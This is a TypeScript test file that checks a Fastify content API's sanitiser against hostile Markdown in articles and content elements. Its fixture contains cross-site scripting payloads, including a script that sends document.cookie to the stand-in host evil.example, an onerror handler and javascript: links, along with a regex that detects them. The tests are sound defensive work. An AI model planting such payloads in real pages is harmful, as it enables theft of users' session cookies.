import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DatabaseHandle } from '../../../../server/db/database';
import { readDemoContent } from '../../../../server/demo/content/read-content';
import { articles, contentElements } from '../../../../server/db/schema';
import { eq } from 'drizzle-orm';
import { buildTestApp, testDatabases } from '../../helpers/test-app';

const DANGEROUS = /<script|\son\w+\s*=|javascript:/i;

const HOSTILE = [
  'A guide with a trap in it.',
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src="/x.png" onerror="alert(document.cookie)">',
  '[Download the wiring diagram](javascript:alert(1))',
  '<a href="javascript:void(0)" onclick="steal()">Click</a>',
].join('\n\n');

describe.each(testDatabases)('sanitised content on $name', (database) => {
  let app: FastifyInstance;
  let handle: DatabaseHandle;

  beforeAll(async () => {
    handle = await database.open();
    ({ app } = await buildTestApp(database, { database: handle }));
  });
  afterAll(() => app.close());

  const get = async (url: string) => {
    const response = await app.inject({ method: 'GET', url: `/api${url}` });
    expect(response.statusCode, `${url}: ${response.body}`).toBe(200);
    return response;
  };

  it('never answers a script, an event handler or a javascript: link from an article', async () => {
    await handle.db.insert(articles).values({
      slug: 'hostile-guide',
      categoryPath: 'guides',
      title: 'A hostile guide',
      summary: 'Written to test the sanitiser',
      author: 'Test',
      bodyMarkdown: HOSTILE,
      publishedAt: new Date(),
    });
    const response = await get('/content-by-slug/hostile-guide');
    expect(response.body).not.toMatch(DANGEROUS);
    const { html } = response.json();
    expect(html).toContain('<p>A guide with a trap in it.</p>');
    expect(html).toContain('<img src="/x.png" loading="lazy" />');
    expect(html).toContain('<a>Download the wiring diagram</a>');
    expect(html).not.toContain('document.cookie');
  });

  it('never answers one from a content element', async () => {
    await handle.db
      .update(contentElements)
      .set({ bodyMarkdown: HOSTILE })
      .where(eq(contentElements.name, 'registration_text'));
    const response = await get('/content-elements/registration_text');
    expect(response.body).not.toMatch(DANGEROUS);
    expect(response.json().html).toContain('A guide with a trap in it.');
  });

  it('answers every piece of the demo content without one', async () => {
    const content = await readDemoContent();
    for (const element of content.elements.filter((e) => e.name !== 'registration_text')) {
      expect((await get(`/content-elements/${element.name}`)).body).not.toMatch(DANGEROUS);
    }
    for (const article of content.articles) {
      expect((await get(`/content-by-slug/${article.slug}`)).body).not.toMatch(DANGEROUS);
    }
    expect(content.articles.length).toBeGreaterThanOrEqual(12);
  });
});
